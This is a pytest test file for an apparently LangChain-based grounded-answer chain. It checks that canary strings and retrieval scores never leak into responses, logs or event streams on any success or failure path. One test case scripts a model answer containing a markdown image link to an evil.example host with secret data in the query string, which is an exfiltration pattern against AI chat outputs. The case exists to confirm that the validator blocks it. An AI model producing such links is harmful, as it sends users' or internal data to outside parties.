"""Canary sweep (reliability notes T03): nothing internal leaves the chain on any path.

Chunk texts carry a unique chunk canary, scores an odd unique value, and the model's raw
answer a unique raw canary in a part the validator rejects. Every path (OK, NO_EVIDENCE by
gate and by refusal, each kind of FAILED) is run, and neither canary nor any score may
appear in the serialised response or in any log line at INFO or above. The canaries are
made at run time, never written in this file, so a traceback quoting source code cannot
carry them either.
"""

from __future__ import annotations

import logging
import uuid
from collections.abc import Iterator
from typing import Any

import pytest
from langchain_core.callbacks import BaseCallbackHandler, CallbackManagerForLLMRun
from langchain_core.language_models import BaseChatModel
from langchain_core.language_models.chat_models import generate_from_stream
from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGeneration, ChatGenerationChunk, ChatResult
from langchain_core.runnables import RunnableLambda

from groundlock import GenerationStatus, ReasonCode, grounded_answer_chain, load_policy
from groundlock.chains.grounded import CHAIN_NAME
from tests.builders import make_bundle, make_row
from tests.fakes.chat import ModelCalls, ScriptedChatModel

CHUNK = f"CANARY-CHUNK-{uuid.uuid4().hex}"
RAW = f"CANARY-RAW-{uuid.uuid4().hex}"
SCORES = ("0.8765432101", "0.8654321098", "0.5432109876", "1.2345678901")
REFUSAL = load_policy().refusal_text


def _bundle(score: str = SCORES[0], **fields: Any) -> dict[str, Any]:
    text = (
        "Replace the case drain filter element every 500 operating hours. "
        f"Archive reference {CHUNK} is kept by records staff."
    )
    rows = [
        make_row(0, similarity=float(score), chunk_text=text),
        make_row(1, similarity=float(SCORES[1]), chunk_text=f"Pump log {CHUNK} is closed."),
    ]
    return make_bundle(rows, user_question="How often is the case drain filter replaced?", **fields)


class _Exploding(BaseChatModel):
    """A provider whose client raises an error that quotes the raw canary."""

    @property
    def _llm_type(self) -> str:
        return "exploding"

    def _generate(self, messages: list[BaseMessage], *args: Any, **kwargs: Any) -> ChatResult:
        raise RuntimeError(RAW)


def _scripted(text: str, **fields: Any) -> ScriptedChatModel:
    return ScriptedChatModel(text=text, **fields)


CASES: list[tuple[str, Any, dict[str, Any], GenerationStatus, ReasonCode | None]] = [
    ("ok", None, _bundle(), GenerationStatus.OK, None),
    ("refusal", _scripted(REFUSAL), _bundle(), GenerationStatus.NO_EVIDENCE, None),
    ("gate", None, _bundle(SCORES[2]), GenerationStatus.NO_EVIDENCE, None),
    ("bad-score", None, _bundle(SCORES[3]), GenerationStatus.FAILED,
     ReasonCode.SIMILARITY_INTEGRITY),
    ("bad-rank", None, _bundle(results=[make_row(3, chunk_text=CHUNK)]),
     GenerationStatus.FAILED, ReasonCode.RANK_INTEGRITY),
    ("unknown-field", None, _bundle(secret=CHUNK), GenerationStatus.FAILED,
     ReasonCode.INPUT_SCHEMA_INVALID),
    ("uncited", _scripted(f"Replace it every 500 hours. [C0]\nAlso {RAW}."),
     _bundle(), GenerationStatus.FAILED, ReasonCode.UNCITED_FACTUAL_STATEMENT),
    ("unsafe", _scripted(f"![x](https://evil.example/?q={RAW}) [C0]"), _bundle(),
     GenerationStatus.FAILED, ReasonCode.UNSAFE_OUTPUT),
    ("malformed", _scripted(f"{RAW} (C0)"), _bundle(), GenerationStatus.FAILED,
     ReasonCode.MALFORMED_CITATION),
    ("invented", _scripted(f"{RAW} [C9]"), _bundle(), GenerationStatus.FAILED,
     ReasonCode.INVALID_CITATION_REFERENCE),
    ("leak", _scripted(f"Evidence entry C0 says {RAW}. [C0]"), _bundle(), GenerationStatus.FAILED,
     ReasonCode.METADATA_LEAK),
    ("truncated", _scripted(f"Replace it {RAW}. [C0]", finish_reason="length"), _bundle(),
     GenerationStatus.FAILED, ReasonCode.OUTPUT_TRUNCATED),
    ("bad-refusal", _scripted(f"{REFUSAL} {RAW}"), _bundle(), GenerationStatus.FAILED,
     ReasonCode.INVALID_REFUSAL_FORMAT),
    ("filtered", _scripted(RAW, finish_reason="content_filter"), _bundle(),
     GenerationStatus.FAILED, ReasonCode.OUTPUT_CONTENT_FILTERED),
    ("drift", _scripted(f"{RAW} [C0]", reported_model="other-model"), _bundle(),
     GenerationStatus.FAILED, ReasonCode.MODEL_DRIFT),
    ("model-error", _Exploding(), _bundle(), GenerationStatus.FAILED, ReasonCode.MODEL_ERROR),
]  # fmt: skip


@pytest.mark.parametrize(
    ("model", "bundle", "status", "reason"),
    [case[1:] for case in CASES],
    ids=[case[0] for case in CASES],
)
def test_no_canary_or_score_leaves_on_any_path(model, bundle, status, reason, caplog):
    chain = grounded_answer_chain(model=model) if model is not None else grounded_answer_chain()
    with caplog.at_level(logging.INFO):
        response = chain.invoke(bundle)
    assert (response.status, response.failure_reason) == (status, reason)
    _assert_clean(response.model_dump_json(), caplog)


def test_a_bug_inside_a_stage_leaks_nothing_either(monkeypatch, caplog):
    def explode(execution: Any, policy: Any) -> None:
        raise RuntimeError(f"{CHUNK} {RAW} {SCORES[0]}")

    monkeypatch.setattr("groundlock.runnables.validate.validate_answer", explode)
    with caplog.at_level(logging.INFO):
        response = grounded_answer_chain().invoke(_bundle())
    assert response.failure_reason is ReasonCode.INTERNAL_ERROR
    _assert_clean(response.model_dump_json(), caplog)


def _assert_clean(serialised: str, caplog: pytest.LogCaptureFixture) -> None:
    assert any(r.name == "groundlock.request" for r in caplog.records)  # logs were captured
    logged = "\n".join(
        f"{r.getMessage()}\n{r.exc_text or ''}\n{getattr(r, 'groundlock', '')}"
        for r in caplog.records
        if r.levelno >= logging.INFO
    )
    for secret in (CHUNK, RAW, *SCORES):
        assert secret not in serialised
        assert secret not in logged
        assert secret not in caplog.text


# -- event streams: how applications stream to readers ---------------------------------------
class _StreamingProvider(BaseChatModel):
    """A provider whose ``_generate`` streams when ``streaming=True`` (ChatAnthropic's way),
    reporting every raw token to ``on_llm_new_token`` as it arrives."""

    text: str
    streaming: bool = False
    temperature: float = 0.0

    @property
    def _llm_type(self) -> str:
        return "streaming-provider"

    def _stream(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> Iterator[ChatGenerationChunk]:
        for token in self.text.split(" "):
            chunk = ChatGenerationChunk(message=AIMessageChunk(content=f"{token} "))
            if run_manager is not None:
                run_manager.on_llm_new_token(chunk.text, chunk=chunk)
            yield chunk

    def _generate(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> ChatResult:
        if self.streaming:
            return generate_from_stream(self._stream(messages, stop, run_manager, **kwargs))
        return ChatResult(generations=[ChatGeneration(message=AIMessage(self.text))])


class _Tokens(BaseCallbackHandler):
    def __init__(self) -> None:
        self.tokens: list[str] = []

    def on_llm_new_token(self, token: str, **kwargs: Any) -> None:
        self.tokens.append(token)


EVENT_CASES = [case for case in CASES if case[1] is not None] + [
    ("streamed-leak",
     _StreamingProvider(text=f"Evidence entry C0 says {RAW}. [C0]", streaming=True),
     _bundle(), GenerationStatus.FAILED, ReasonCode.METADATA_LEAK),
]  # fmt: skip


@pytest.mark.filterwarnings("ignore:astream_log is deprecated")  # still offered, still checked
@pytest.mark.filterwarnings("ignore:astream_events version='v1' is deprecated")
@pytest.mark.parametrize("version", ["v1", "v2"])  # every event-stream version LangChain has
@pytest.mark.parametrize(
    ("model", "bundle", "status", "reason"),
    [case[1:] for case in EVENT_CASES],
    ids=[case[0] for case in EVENT_CASES],
)
async def test_event_streams_show_the_chain_run_only_never_a_stage_or_the_raw_answer(
    model, bundle, status, reason, version
):
    # astream_events and astream_log are how a LangChain app streams to its readers: they
    # may carry the caller's own input and the validated response, nothing in between.
    chain = grounded_answer_chain(model=model)
    events = [event async for event in chain.astream_events(bundle, version=version)]
    assert {event["name"] for event in events} == {CHAIN_NAME}
    assert events[0]["event"] == "on_chain_start"
    assert events[-1]["event"] == "on_chain_end"
    response = events[-1]["data"]["output"].response  # a stream's last event: the response
    assert (response.status, response.failure_reason) == (status, reason)
    streamed = [e["data"]["chunk"] for e in events if e["event"] == "on_chain_stream"]
    assert streamed[-1].response == response
    assert {chunk.type for chunk in streamed[:-1]} <= {"answer_delta"}
    assert RAW not in repr(events)
    assert CHUNK not in repr(events[1:])  # only the caller's own input carries it
    patches = [repr(patch) async for patch in chain.astream_log(bundle)]
    assert RAW not in "".join(patches)
    assert CHUNK not in "".join(patches)


@pytest.mark.parametrize("nesting", ["piped", "called"])
async def test_a_chain_inside_another_streams_no_stage_to_the_outer_event_stream(nesting: str):
    inner = grounded_answer_chain(model=_scripted(f"Evidence entry C0 says {RAW}. [C0]"))
    # Piped, LCEL flattens the chain's stages into the outer sequence; called from a
    # function, the chain is a run of its own inside the outer one. Neither shows a stage.
    outer = (
        RunnableLambda(lambda bundle: bundle, name="app.prepare") | inner
        if nesting == "piped"
        else RunnableLambda(inner.ainvoke, name="app.answer")
    )
    events = [event async for event in outer.astream_events(_bundle(), version="v2")]
    stages = {step.name for step in inner.steps}
    assert not {event["name"] for event in events} & {*stages, "ScriptedChatModel"}
    output = events[-1]["data"]["output"]
    response = output.response if nesting == "piped" else output  # streamed, or invoked
    assert response.failure_reason is ReasonCode.METADATA_LEAK
    assert RAW not in repr(events)


async def test_tracers_still_see_every_stage_while_the_event_stream_sees_none():
    calls = ModelCalls()
    chain = grounded_answer_chain(model=_scripted("Replace it every 500 operating hours. [C0]"))
    events = [
        event
        async for event in chain.astream_events(_bundle(), {"callbacks": [calls]}, version="v2")
    ]
    assert {event["name"] for event in events} == {CHAIN_NAME}
    assert [name for name, _ in calls.runs if name.startswith("R")] == [
        "R2.AssembleEvidence", "R3.BuildPrompt", "R4.ExecuteModel", "R5.ValidateAnswer",
        "R6.PackageResponse",
    ]  # fmt: skip
    assert calls.model_calls == 1


def test_a_model_that_streams_inside_generate_is_pinned_not_to_stream():
    model = _StreamingProvider(text=f"Evidence entry C0 says {RAW}. [C0]", streaming=True)
    chain = grounded_answer_chain(model=model)
    tokens = _Tokens()
    response = chain.invoke(_bundle(), {"callbacks": [tokens]})
    assert response.failure_reason is ReasonCode.METADATA_LEAK
    assert chain.steps[2].model.streaming is False
    assert tokens.tokens == []


@pytest.mark.filterwarnings("ignore:astream_log is deprecated")
async def test_a_stage_streamed_on_its_own_is_the_root_run_and_is_seen():
    # A stage invoked on its own is what its caller asked to watch (a developer's probe):
    # its run stays in the event streams, and astream_log can build its state.
    stage = grounded_answer_chain().steps[0]
    events = [event async for event in stage.astream_events(_bundle(), version="v2")]
    assert [event["event"] for event in events] == ["on_chain_start", "on_chain_end"]
    assert {event["name"] for event in events} == {stage.name}
    states = [state async for state in stage.astream_log(_bundle(), diff=False)]
    assert states[-1].state["final_output"].bundle.assembly_status.value == "OK"


async def test_the_typed_v3_event_stream_is_not_offered_by_the_chain():
    # v3 streams a chat model's content blocks; a sequence does not implement it. Should a
    # langchain-core release start offering it on sequences, this fails and the new stream
    # must be checked for stage data like v1 and v2 above.
    chain = grounded_answer_chain(model=_scripted(f"Evidence entry C0 says {RAW}. [C0]"))
    with pytest.raises(NotImplementedError):
        await chain.astream_events(_bundle(), version="v3")
